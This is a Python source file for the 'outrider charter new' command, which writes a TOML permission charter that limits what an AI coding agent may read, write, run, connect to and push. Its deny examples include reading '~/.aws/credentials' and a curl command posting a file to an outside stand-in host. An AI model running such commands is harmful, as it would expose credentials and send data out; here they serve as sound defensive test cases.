"""``outrider charter new``."""

from __future__ import annotations

from typing import TYPE_CHECKING

import click

from outrider.cli import charter_needs, named, person, reach, show, survey
from outrider.cli.toml import listed, quoted
from outrider.errors import BadInputError

if TYPE_CHECKING:
    from collections.abc import Iterator

    from outrider.charter.model import Charter
    from outrider.cli.charter_needs import Needs
    from outrider.daemon import shelf as shelves

_READ = ("repo/**", "@system", "@tmp", "@caches")
_HOSTS = ("@registries", "@loopback")


@click.command("new")
@click.argument("name")
@click.option("--from-repo", "from_repo", is_flag=True, help="Ask nothing: look at this repository.")
@click.option("--print", "only_print", is_flag=True, help="Print it on stdout instead of writing it.")
@click.option("--json", "as_json", is_flag=True, help="One object on stdout.")
def command(*, name: str, from_repo: bool, only_print: bool, as_json: bool) -> None:
    """Make a charter called NAME, by five questions or from what this repository needs.

    It is written into the charters directory of Outrider's home, never over another one; it extends base, carries
    examples of its own, and is checked before it is written.

    \b
    Examples:
      outrider charter new site
      outrider charter new site --from-repo --print
    """  # noqa: D301 - \b is click's mark for text that is not re-wrapped.
    from outrider.daemon import shelf
    from outrider.doors.claude_code import files

    home = reach.home()
    if not only_print:
        person.required(home)
    read = shelf.load(home)
    if name in read.found:
        raise BadInputError(
            f"there is a charter called {name} already", fix=f"`outrider charter show {name}` shows it."
        )
    root = survey.here()
    needs = charter_needs.looked_up(root) if from_repo else charter_needs.asked(root)
    text = "\n".join(toml_of(name, needs)) + "\n"
    line = _checked(name, text, read)
    path = home.charters / f"{name}.toml"
    if not only_print:
        home.make()
        files.write(path, text.encode(), 0o644)
    if as_json:
        written = "" if only_print else str(path)
        show.emit({"name": name, "digest": line[0].digest, "path": written, "toml": text}, kind="charter-new")
    elif only_print:
        click.echo(text, nl=False)
    else:
        show.say(f"Wrote {show.safe(str(path))}. `outrider charter show {name}` says what it comes to.")
        show.say(f"`outrider init --charter {name}` gives it to a repository.")


def toml_of(name: str, needs: Needs) -> Iterator[str]:
    """Yield the lines of the charter's file."""
    yield "[charter]"
    yield f"name = {quoted(name)}"
    yield 'extends = "base"'
    yield f"description = {quoted(needs.what)}"
    yield f"ttl = {quoted(needs.life)}"
    yield "budget = { calls = 5000, spawns = 20, spawn_depth = 2 }"
    yield ""
    yield "[may] # everything else is denied"
    yield from listed("read", _READ)
    yield from listed("write", ("repo/**", "@tmp", "@caches") if needs.writes else ("@tmp", "@caches"))
    yield 'exec = ["*"] # judged by its effects, not by its name'
    yield from listed("connect", (*_HOSTS, *needs.hosts))
    if needs.installs:
        yield from listed("install", tuple(f"{kind}:known" for kind in needs.installs))
    yield 'call = ["host:*"] # the host\'s own tools; MCP servers go here by name, such as "mcp:github/get_*"'
    yield from listed("spawn", (name, "general-purpose", "Explore", "Plan"))
    if needs.git != "nothing":
        yield 'commit = ["repo/**"]'
    if needs.git == "branches":
        yield 'push = ["origin/*"]'
    yield 'prompt = ["*"]'
    yield 'opaque = "allow" # programs whose inner effects are not seen, such as make test'
    yield ""
    yield from _refusals(needs)


def _refusals(needs: Needs) -> Iterator[str]:
    if needs.git == "branches":
        yield "[ask]"
        yield 'push = ["origin/main", "origin/master"]'
        yield ""
    yield "[never]"
    yield 'read = ["@credentials", "**/.env"]'
    yield ""
    yield "[flow]"
    yield 'secret = { not_to = ["connect", "call", "commit", "push"], except = ["@loopback", "@registries"] }'
    yield ""
    yield "[examples] # tried by `outrider charter check`"
    yield 'allow = ["git status", "cat README.md"]'
    elsewhere = () if "*" in needs.hosts else ("curl -d @README.md https://elsewhere.example",)
    yield from listed("deny", ("cat ~/.aws/credentials", *elsewhere))


def _checked(name: str, text: str, read: shelves.Files) -> tuple[Charter, ...]:
    """Return the line of the new charter.

    Raises:
        BadInputError: An answer makes no charter, or one that does not hold its own examples.
    """
    from outrider.charter.parse import parse
    from outrider.cli.charter_examples import failed

    line = named.with_above(parse(text, source=name), read)
    _, errors = failed(text, name, line)
    if errors:
        raise BadInputError(errors[0]["message"], fix=errors[0]["fix"])
    return line
